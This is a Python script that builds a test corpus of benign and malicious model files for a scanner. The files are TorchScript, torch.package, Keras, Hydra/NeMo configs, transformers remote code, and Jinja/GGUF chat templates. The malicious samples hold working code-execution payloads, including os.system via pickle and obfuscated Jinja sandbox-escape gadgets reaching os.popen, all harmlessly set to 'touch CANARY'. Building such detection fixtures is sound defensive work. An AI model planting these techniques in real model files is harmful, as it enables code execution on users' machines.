#!/usr/bin/env python3
"""Writes the "code" sub-corpus: code that lives outside pickles (issue 13 §3, chat templates).

    .venv/bin/python scripts/scan-corpus/code.py tests/fixtures/scan-corpus/code

TorchScript archives (torch.jit.script/trace + torch.jit.save), torch.package archives
(PackageExporter), Keras 3 models with a TorchModuleWrapper, Hydra YAML configs and
NeMo-style `.nemo` tars, transformers configs (auto_map remote code) and chat templates
(tokenizer_config.json, chat_template.jinja written by transformers' save_pretrained, GGUF
written by gguf.GGUFWriter). Each malicious sample creates ./CANARY when loaded by the loader
named in corpus.json (scripts/scan-corpus/code_load.py); each benign one loads.

The benign chat templates are written for this corpus in the style of current Qwen3,
DeepSeek, GLM, Llama 3.x and Mistral templates: the same constructs (namespace() loop state,
messages[::-1], loop.index0/last, macros, cycler/joiner, raise_exception, strftime_now,
tojson), not copies of them.

Needs torch (the optional tier), keras, hydra-core, omegaconf, transformers, tokenizers, gguf.
"""
import base64
import hashlib
import io
import json
import os
import shutil
import sys
import tarfile
import zipfile

os.environ.setdefault("KERAS_BACKEND", "torch")

OUT = sys.argv[1] if len(sys.argv) > 1 else "tests/fixtures/scan-corpus/code"
CANARY_CMD = "touch CANARY"
manifest = []


def path_of(kind, name):
    path = os.path.join(OUT, kind, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    return path


def add(kind, name, family, loader, note=""):
    manifest.append({"file": f"{kind}/{name}", "kind": kind, "family": family, "loader": loader, "note": note})


def write(kind, name, data, family, loader, note=""):
    with open(path_of(kind, name), "wb") as f:
        f.write(data)
    add(kind, name, family, loader, note)


class SystemCanary:
    def __reduce__(self):
        return (os.system, (CANARY_CMD,))


shutil.rmtree(OUT, ignore_errors=True)

# ------------------------------------------------------------------------------ TorchScript
import torch  # noqa: E402
from typing import Tuple  # noqa: E402

torch.manual_seed(0)


class FromFileOnLoad(torch.nn.Module):
    """__setstate__ runs in torch.jit.load; from_file(shared=True) creates the file."""

    def __init__(self):
        super().__init__()
        self.w = torch.zeros(1)

    @torch.jit.export
    def __getstate__(self) -> Tuple[torch.Tensor, bool]:
        return (self.w, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, bool]) -> None:
        self.w = state[0]
        self.training = state[1]
        self.w = self.w + torch.from_file("CANARY", shared=True, size=1)

    def forward(self, x):
        return x + self.w


torch.jit.save(torch.jit.script(FromFileOnLoad()), path_of("malicious", "torchscript-setstate-from-file.pt"))
add("malicious", "torchscript-setstate-from-file.pt", "TorchScript __setstate__ calls torch.from_file", "torchscript",
    "torch.from_file(path, shared=True, size) opens the path O_CREAT: the archive creates files on load")


class Net(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(4, 2)
        self.register_buffer("scale", torch.ones(2))

    def forward(self, x):
        return torch.relu(self.fc(x)) * self.scale


class Stateful(torch.nn.Module):
    """A benign __getstate__/__setstate__ pair (state only, no side effects)."""

    def __init__(self):
        super().__init__()
        self.w = torch.ones(2)

    @torch.jit.export
    def __getstate__(self) -> Tuple[torch.Tensor, bool]:
        return (self.w, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, bool]) -> None:
        self.w = state[0] * 1.0
        self.training = state[1]

    def forward(self, x):
        return x * self.w


torch.jit.save(torch.jit.script(Net()), path_of("benign", "torchscript-scripted.pt"))
add("benign", "torchscript-scripted.pt", "TorchScript (torch.jit.script)", "torchscript")
torch.jit.save(torch.jit.trace(Net(), torch.zeros(1, 4)), path_of("benign", "torchscript-traced.pt"))
add("benign", "torchscript-traced.pt", "TorchScript (torch.jit.trace)", "torchscript")
torch.jit.save(torch.jit.script(Stateful()), path_of("benign", "torchscript-setstate.pt"))
add("benign", "torchscript-setstate.pt", "TorchScript with a side-effect-free __setstate__", "torchscript")

# ---------------------------------------------------------------------------- torch.package
from torch.package import PackageExporter  # noqa: E402

SHIPPED = "import os\nos.system('touch CANARY')\n\ndef _reconstruct(*args):\n    return None\n"
with PackageExporter(path_of("malicious", "torch-package-shipped-numpy.pt")) as exporter:
    exporter.save_source_string("numpy.core.multiarray", SHIPPED)
    # What a pickle of a NumPy array names first; the importer finds it in the archive.
    exporter.save_binary("res", "obj.pkl", b"\x80\x02cnumpy.core.multiarray\n_reconstruct\nq\x00)Rq\x01.")
add("malicious", "torch-package-shipped-numpy.pt", "torch.package ships numpy/core/multiarray.py, a pickle imports it",
    "torch-package", "PackageImporter.load_pickle imports the archive's own module whatever its name")

with PackageExporter(path_of("benign", "torch-package-extern.pt")) as exporter:
    exporter.extern("torch.**")
    exporter.save_pickle("model", "model.pkl", torch.nn.Linear(2, 2))
add("benign", "torch-package-extern.pt", "torch.package of a Linear, torch extern", "torch-package")

# ------------------------------------------------------------------------------------ Keras
import keras  # noqa: E402
from keras.layers import TorchModuleWrapper  # noqa: E402

keras.utils.set_random_seed(0)
benign_keras = path_of("benign", "keras-torch-module-wrapper.keras")
keras.Sequential([keras.Input((2,)), TorchModuleWrapper(torch.nn.Linear(2, 2))]).save(benign_keras)
add("benign", "keras-torch-module-wrapper.keras", "Keras 3 TorchModuleWrapper of a Linear (torch.save bytes in config)",
    "torch-keras-unsafe", "TorchModuleWrapper.from_config torch.loads its bytes only with safe_mode=False")

buffer = io.BytesIO()
torch.save(SystemCanary(), buffer)
evil_module = base64.b64encode(buffer.getvalue()).decode("ascii")
with zipfile.ZipFile(benign_keras) as src:
    members = [(info, src.read(info)) for info in src.infolist()]
with zipfile.ZipFile(path_of("malicious", "keras-torch-module-wrapper.keras"), "w") as dst:
    for info, data in members:
        if info.filename == "config.json":
            config = json.loads(data)
            for layer in config["config"]["layers"]:
                if layer["class_name"] == "TorchModuleWrapper":
                    layer["config"]["module"] = evil_module
            data = json.dumps(config).encode()
        dst.writestr(info, data)
add("malicious", "keras-torch-module-wrapper.keras", "Keras 3 TorchModuleWrapper whose torch.save bytes call os.system",
    "torch-keras-unsafe", "needs safe_mode=False (safe mode refuses the torch.load)")

# ------------------------------------------------------------------------- Hydra / OmegaConf
# hydra-core 1.3.8 here refuses os.system, subprocess.* and the like by a blocklist; builtins.open
# is not on it (and any callable of any installed package is a target).
HYDRA_EVIL = """model:
  name: tiny
  preprocessor:
    _target_: builtins.open
    _args_: [CANARY, w]
"""
write("malicious", "hydra-builtins-open.yaml", HYDRA_EVIL.encode(), "Hydra _target_ builtins.open (writes a file)",
      "hydra-instantiate")

HYDRA_BENIGN = """model:
  encoder:
    _target_: torch.nn.Linear
    in_features: 4
    out_features: 2
  activation:
    _target_: torch.nn.ReLU
optim:
  _target_: torch.optim.SGD
  _partial_: true
  lr: 0.01
"""
write("benign", "hydra-torch.yaml", HYDRA_BENIGN.encode(), "Hydra config of torch.nn/torch.optim targets",
      "torch-hydra-instantiate")


def nemo(name, kind, config_text, family, loader, note=""):
    """A NeMo-style .nemo: an uncompressed tar with model_config.yaml and the weights."""
    weights = io.BytesIO()
    torch.save(torch.nn.Linear(4, 2).state_dict(), weights)
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for member, data in (("./model_config.yaml", config_text.encode()), ("./model_weights.ckpt", weights.getvalue())):
            info = tarfile.TarInfo(member)
            info.size = len(data)
            info.mtime = 0
            tar.addfile(info, io.BytesIO(data))
    write(kind, name, out.getvalue(), family, loader, note)


nemo("nemo-builtins-open.nemo", "malicious", HYDRA_EVIL, ".nemo whose model_config.yaml targets builtins.open", "torch-nemo",
     "restore_from extracts the tar and instantiates the config's _target_ nodes")
nemo("nemo-torch.nemo", "benign", HYDRA_BENIGN, ".nemo with torch.nn targets", "torch-nemo")

# ------------------------------------------------------------------------- transformers
import transformers  # noqa: E402

remote = path_of("malicious", "remote-code/config.json")
with open(os.path.join(os.path.dirname(remote), "configuration_evil.py"), "w") as f:
    f.write("import os\nfrom transformers import PretrainedConfig\n\nos.system('touch CANARY')\n\n\n"
            "class EvilConfig(PretrainedConfig):\n    model_type = 'evil'\n")
with open(remote, "w") as f:
    json.dump({"model_type": "evil", "auto_map": {"AutoConfig": "configuration_evil.EvilConfig"},
               "architectures": ["EvilModel"]}, f, indent=2)
add("malicious", "remote-code/config.json", "transformers auto_map to a Python file in the model folder",
    "transformers-remote-code", "AutoConfig.from_pretrained(trust_remote_code=True) imports configuration_evil.py")

bert = transformers.BertConfig(vocab_size=64, hidden_size=16, num_hidden_layers=1, num_attention_heads=2,
                               intermediate_size=32)
bert.save_pretrained(os.path.dirname(path_of("benign", "bert-config/config.json")))
add("benign", "bert-config/config.json", "transformers config.json (BertConfig.save_pretrained)", "transformers-config")

# ---------------------------------------------------------------------------- chat templates
QWEN3_STYLE = """{%- if tools %}
    {{- '<|im_start|>system\\n' }}
    {%- if messages[0].role == 'system' %}{{- messages[0].content + '\\n\\n' }}{%- endif %}
    {{- "# Tools\\n\\n<tools>" }}
    {%- for tool in tools %}{{- "\\n" }}{{- tool | tojson }}{%- endfor %}
    {{- "\\n</tools><|im_end|>\\n" }}
{%- elif messages[0].role == 'system' %}
    {{- '<|im_start|>system\\n' + messages[0].content + '<|im_end|>\\n' }}
{%- endif %}
{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}
{%- for message in messages[::-1] %}
    {%- set index = (messages|length - 1) - loop.index0 %}
    {%- if ns.multi_step_tool and message.role == "user" and message.content is string
        and not(message.content.startswith('<tool_response>') and message.content.endswith('</tool_response>')) %}
        {%- set ns.multi_step_tool = false %}
        {%- set ns.last_query_index = index %}
    {%- endif %}
{%- endfor %}
{%- for message in messages %}
    {%- set content = message.content if message.content is string else '' %}
    {%- if message.role == "user" or (message.role == "system" and not loop.first) %}
        {{- '<|im_start|>' + message.role + '\\n' + content + '<|im_end|>' + '\\n' }}
    {%- elif message.role == "assistant" %}
        {%- set reasoning_content = '' %}
        {%- if '</think>' in content %}
            {%- set reasoning_content = content.split('</think>')[0].rstrip('\\n').split('<think>')[-1].lstrip('\\n') %}
            {%- set content = content.split('</think>')[-1].lstrip('\\n') %}
        {%- endif %}
        {%- if loop.index0 > ns.last_query_index and (loop.last or reasoning_content) %}
            {{- '<|im_start|>assistant\\n<think>\\n' + reasoning_content.strip('\\n') + '\\n</think>\\n\\n' + content.lstrip('\\n') }}
        {%- else %}
            {{- '<|im_start|>assistant\\n' + content }}
        {%- endif %}
        {%- for tool_call in message.tool_calls or [] %}
            {%- set tool_call = tool_call.function if tool_call.function else tool_call %}
            {{- '\\n<tool_call>\\n{"name": "' + tool_call.name + '", "arguments": ' }}
            {{- tool_call.arguments if tool_call.arguments is string else tool_call.arguments | tojson }}
            {{- '}\\n</tool_call>' }}
        {%- endfor %}
        {{- '<|im_end|>\\n' }}
    {%- elif message.role == "tool" %}
        {%- if loop.first or (messages[loop.index0 - 1].role != "tool") %}{{- '<|im_start|>user' }}{%- endif %}
        {{- '\\n<tool_response>\\n' + content + '\\n</tool_response>' }}
        {%- if loop.last or (messages[loop.index0 + 1].role != "tool") %}{{- '<|im_end|>\\n' }}{%- endif %}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}
    {{- '<|im_start|>assistant\\n' }}
    {%- if enable_thinking is defined and enable_thinking is false %}{{- '<think>\\n\\n</think>\\n\\n' }}{%- endif %}
{%- endif %}"""

DEEPSEEK_STYLE = """{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}{% endif %}\
{% set ns = namespace(is_first=false, is_tool=false, is_output_first=true, system_prompt='', is_first_sp=true) %}\
{%- for message in messages %}{%- if message['role'] == 'system' %}{%- if ns.is_first_sp %}\
{% set ns.system_prompt = ns.system_prompt + message['content'] %}{% set ns.is_first_sp = false %}\
{%- else %}{% set ns.system_prompt = ns.system_prompt + '\\n\\n' + message['content'] %}{%- endif %}{%- endif %}{%- endfor %}\
{{ bos_token }}{{ ns.system_prompt }}\
{%- for message in messages %}\
{%- if message['role'] == 'user' %}{%- set ns.is_tool = false -%}{{'<｜User｜>' + message['content']}}\
{%- elif message['role'] == 'assistant' and message['tool_calls'] is defined and message['tool_calls'] %}\
{%- set ns.is_tool = false -%}{%- for tool in message['tool_calls'] %}{%- if not ns.is_first %}\
{{'<｜Assistant｜><｜tool▁calls▁begin｜><｜tool▁call▁begin｜>' + tool['type'] + '<｜tool▁sep｜>' + tool['function']['name'] + '\\n```json\\n' + tool['function']['arguments'] + '\\n```<｜tool▁call▁end｜>'}}\
{%- set ns.is_first = true -%}{%- else %}\
{{'\\n<｜tool▁call▁begin｜>' + tool['type'] + '<｜tool▁sep｜>' + tool['function']['name'] + '\\n```json\\n' + tool['function']['arguments'] + '\\n```<｜tool▁call▁end｜>'}}\
{%- endif %}{%- endfor %}{{'<｜tool▁calls▁end｜><｜end▁of▁sentence｜>'}}\
{%- elif message['role'] == 'assistant' %}{% set content = message['content'] %}\
{% if '</think>' in content %}{% set content = content.split('</think>')[-1] %}{% endif %}\
{%- if ns.is_tool %}{{'<｜tool▁outputs▁end｜>' + content + '<｜end▁of▁sentence｜>'}}{%- set ns.is_tool = false -%}\
{%- else %}{{'<｜Assistant｜>' + content + '<｜end▁of▁sentence｜>'}}{%- endif %}\
{%- elif message['role'] == 'tool' %}{%- set ns.is_tool = true -%}\
{%- if ns.is_output_first %}{{'<｜tool▁outputs▁begin｜><｜tool▁output▁begin｜>' + message['content'] + '<｜tool▁output▁end｜>'}}{%- set ns.is_output_first = false %}\
{%- else %}{{'<｜tool▁output▁begin｜>' + message['content'] + '<｜tool▁output▁end｜>'}}{%- endif %}\
{%- endif %}{%- endfor -%}\
{% if ns.is_tool %}{{'<｜tool▁outputs▁end｜>'}}{% endif %}\
{% if add_generation_prompt and not ns.is_tool %}{{'<｜Assistant｜><think>\\n'}}{% endif %}"""

GLM_STYLE = """[gMASK]<sop>
{%- macro visible_text(content) -%}
    {%- if content is string -%}{{- content }}
    {%- elif content is iterable and content is not mapping -%}
        {%- for item in content -%}
            {%- if item is mapping and item.type == 'text' -%}{{- item.text }}
            {%- elif item is string -%}{{- item }}{%- endif -%}
        {%- endfor -%}
    {%- else -%}{{- content }}{%- endif -%}
{%- endmacro -%}
{%- if tools -%}<|system|>
# Tools
{% for tool in tools %}{% set function = tool.function if tool.get("function") else tool %}
{{ function | tojson(ensure_ascii=False) }}
{% endfor %}{%- endif -%}
{%- set ns = namespace(last_user_index=-1) %}
{%- for m in messages %}{%- if m.role == 'user' %}{% set ns.last_user_index = loop.index0 -%}{%- endif %}{%- endfor %}
{% for m in messages %}
{%- if m.role == 'user' -%}<|user|>
{{ visible_text(m.content) }}
{%- elif m.role == 'assistant' -%}<|assistant|>
{%- set content = visible_text(m.content) %}
{%- if loop.index0 > ns.last_user_index and '</think>' in content -%}
<think>{{ content.split('</think>')[0].split('<think>')[-1].strip() }}</think>
{{ content.split('</think>')[-1].strip() }}
{%- else %}
{{ content.strip() }}
{%- endif -%}
{%- elif m.role == 'tool' -%}<|observation|>
<tool_response>
{{ visible_text(m.content) }}
</tool_response>
{%- elif m.role == 'system' -%}<|system|>
{{ visible_text(m.content) }}
{%- endif -%}
{%- endfor -%}
{%- if add_generation_prompt -%}<|assistant|>{%- endif -%}"""

LLAMA3_STYLE = """{{- bos_token }}
{%- if custom_tools is defined %}{%- set tools = custom_tools %}{%- endif %}
{%- if not tools_in_user_message is defined %}{%- set tools_in_user_message = true %}{%- endif %}
{%- if not date_string is defined %}
    {%- if strftime_now is defined %}{%- set date_string = strftime_now("%d %b %Y") %}
    {%- else %}{%- set date_string = "26 Jul 2024" %}{%- endif %}
{%- endif %}
{%- if not tools is defined %}{%- set tools = none %}{%- endif %}
{%- if messages[0]['role'] == 'system' %}
    {%- set system_message = messages[0]['content']|trim %}
    {%- set messages = messages[1:] %}
{%- else %}
    {%- set system_message = "" %}
{%- endif %}
{{- "<|start_header_id|>system<|end_header_id|>\\n\\n" }}
{{- "Cutting Knowledge Date: December 2023\\n" }}
{{- "Today Date: " + date_string + "\\n\\n" }}
{{- system_message }}
{{- "<|eot_id|>" }}
{%- if tools_in_user_message and not tools is none %}
    {%- if messages | length != 0 %}
        {%- set first_user_message = messages[0]['content']|trim %}
        {%- set messages = messages[1:] %}
    {%- else %}
        {{- raise_exception("Cannot put tools in the first user message when there's no first user message!") }}
    {%- endif %}
    {{- '<|start_header_id|>user<|end_header_id|>\\n\\n' }}
    {%- for t in tools %}{{- t | tojson(indent=4) }}{{- "\\n\\n" }}{%- endfor %}
    {{- first_user_message + "<|eot_id|>"}}
{%- endif %}
{%- for message in messages %}
    {%- if not (message.role == 'ipython' or message.role == 'tool' or 'tool_calls' in message) %}
        {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' }}
    {%- elif 'tool_calls' in message %}
        {%- if not message.tool_calls|length == 1 %}
            {{- raise_exception("This model only supports single tool-calls at once!") }}
        {%- endif %}
        {%- set tool_call = message.tool_calls[0].function %}
        {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' -}}
        {{- '{"name": "' + tool_call.name + '", "parameters": ' + tool_call.arguments | tojson + "}" }}
        {{- "<|eot_id|>" }}
    {%- elif message.role == "tool" or message.role == "ipython" %}
        {{- "<|start_header_id|>ipython<|end_header_id|>\\n\\n" }}
        {%- if message.content is mapping or message.content is iterable %}{{- message.content | tojson }}
        {%- else %}{{- message.content }}{%- endif %}
        {{- "<|eot_id|>" }}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}{{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{%- endif %}"""

MISTRAL_STYLE = """{%- if messages[0]['role'] == 'system' %}
    {%- set system_message = messages[0]['content'] %}
    {%- set loop_messages = messages[1:] %}
{%- else %}
    {%- set loop_messages = messages %}
{%- endif %}
{%- set sep = joiner(' ') %}
{%- set parity = cycler('user', 'assistant') %}
{{- bos_token }}
{%- for message in loop_messages %}
    {%- if message['role'] != parity.next() %}
        {{- raise_exception('After the optional system message, conversation roles must alternate user/assistant/user/assistant/...') }}
    {%- endif %}
    {%- if message['role'] == 'user' %}
        {%- if loop.last and system_message is defined %}
            {{- sep() + '[INST] ' + system_message + '\\n\\n' + message['content'] + '[/INST]' }}
        {%- else %}
            {{- sep() + '[INST] ' + message['content'] + '[/INST]' }}
        {%- endif %}
    {%- elif message['role'] == 'assistant' %}
        {{- sep() + message['content'] + eos_token }}
    {%- endif %}
    {%- if loop.length > 1000 %}{% break %}{%- endif %}
{%- endfor %}"""

BENIGN_TEMPLATES = {
    "qwen3": QWEN3_STYLE,
    "deepseek": DEEPSEEK_STYLE,
    "glm": GLM_STYLE,
    "llama3": LLAMA3_STYLE,
    "mistral": MISTRAL_STYLE,
}

# Each gadget renders `touch CANARY` through os.popen when rendered without a sandbox.
POPEN = "['os'].popen('touch CANARY').read()"
MALICIOUS_TEMPLATES = {
    # '%c'|format builds the dunders from numbers.
    "format-chars": "{% set i = '%c%cinit%c%c'|format(95, 95, 95, 95) %}{% set g = '%c%cglobals%c%c'|format(95, 95, 95, 95) %}"
                    "{{ (cycler|attr(i)|attr(g))" + POPEN + " }}",
    # |reverse of reversed names, used as computed subscripts (Jinja's getitem falls back to getattr).
    "reverse": "{% set g = '__slabolg__'|reverse %}{% for m in messages %}{{ m.content }}{% endfor %}"
               "{{ lipsum[g]" + POPEN + " }}",
    # Octal escapes in string literals.
    "octal-escapes": "{{ (joiner|attr('\\137\\137init\\137\\137')|attr('\\137\\137globals\\137\\137'))" + POPEN + " }}",
    # ~ concatenation across tags, |join of pieces.
    "concat-join": "{% set a = '__in' ~ 'it__' %}{% set b = ['__glo', 'bals__']|join %}{{ namespace[a][b]" + POPEN + " }}",
    # A plain attribute walk from a Jinja global.
    "plain-walk": "{{ cycler.__init__.__globals__.os.popen('touch CANARY').read() }}",
}

import tokenizers  # noqa: E402
from transformers import PreTrainedTokenizerFast  # noqa: E402


def tokenizer_dir(kind, name, template):
    """save_pretrained of a tiny fast tokenizer carrying `template` (transformers 5 writes it to
    chat_template.jinja beside tokenizer_config.json)."""
    vocab = {"[UNK]": 0, "<s>": 1, "</s>": 2, "hi": 3}
    tok = tokenizers.Tokenizer(tokenizers.models.WordLevel(vocab, unk_token="[UNK]"))
    tok.pre_tokenizer = tokenizers.pre_tokenizers.Whitespace()
    fast = PreTrainedTokenizerFast(tokenizer_object=tok, bos_token="<s>", eos_token="</s>", unk_token="[UNK]")
    fast.chat_template = template
    directory = os.path.dirname(path_of(kind, f"{name}/x"))
    fast.save_pretrained(directory)
    return directory


for name, template in BENIGN_TEMPLATES.items():
    directory = tokenizer_dir("benign", f"tokenizer-{name}", template)
    files = sorted(os.listdir(directory))
    if "chat_template.jinja" in files:
        add("benign", f"tokenizer-{name}/chat_template.jinja", f"{name}-style chat template (chat_template.jinja)",
            "transformers-tokenizer", "written by save_pretrained, rendered by apply_chat_template (sandboxed)")
    add("benign", f"tokenizer-{name}/tokenizer_config.json", f"{name}-style tokenizer_config.json",
        "transformers-tokenizer")

for name, template in MALICIOUS_TEMPLATES.items():
    write("malicious", f"template-{name}.jinja", template.encode(), f"chat template gadget ({name}) in a .jinja file",
          "jinja-file", "rendered without a sandbox (jinja2.Template)")
    write("malicious", f"template-{name}/tokenizer_config.json",
          json.dumps({"chat_template": template, "bos_token": "<s>"}).encode(),
          f"chat template gadget ({name}) in tokenizer_config.json", "jinja-chat-template",
          "rendered without a sandbox (jinja2.Template)")

import gguf  # noqa: E402


def gguf_file(kind, name, template, family, loader):
    path = path_of(kind, name)
    writer = gguf.GGUFWriter(path, "llama")
    writer.add_chat_template(template)
    writer.add_tensor("w", __import__("numpy").zeros(4, dtype="float32"))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    add(kind, name, family, loader)


gguf_file("benign", "gguf-qwen3-template.gguf", QWEN3_STYLE, "GGUF with a qwen3-style chat template", "gguf-template-sandbox")
gguf_file("benign", "gguf-mistral-template.gguf", MISTRAL_STYLE, "GGUF with a mistral-style chat template (cycler, joiner)",
          "gguf-template-sandbox")
gguf_file("malicious", "gguf-format-chars-template.gguf", MALICIOUS_TEMPLATES["format-chars"],
          "GGUF chat template building dunders with |format", "gguf-chat-template")

# --------------------------------------------------------------------------------- manifest
for sample in manifest:
    with open(os.path.join(OUT, sample["file"]), "rb") as f:
        sample["sha256"] = hashlib.sha256(f.read()).hexdigest()
with open(os.path.join(OUT, "corpus.json"), "w") as f:
    json.dump({"generated_by": "scripts/scan-corpus/code.py", "load_script": "scripts/scan-corpus/code_load.py",
               "libraries": "numpy, keras, hydra, omegaconf, transformers, jinja2, gguf",
               "samples": manifest}, f, indent=1)
print(f"{len(manifest)} samples in {OUT}")
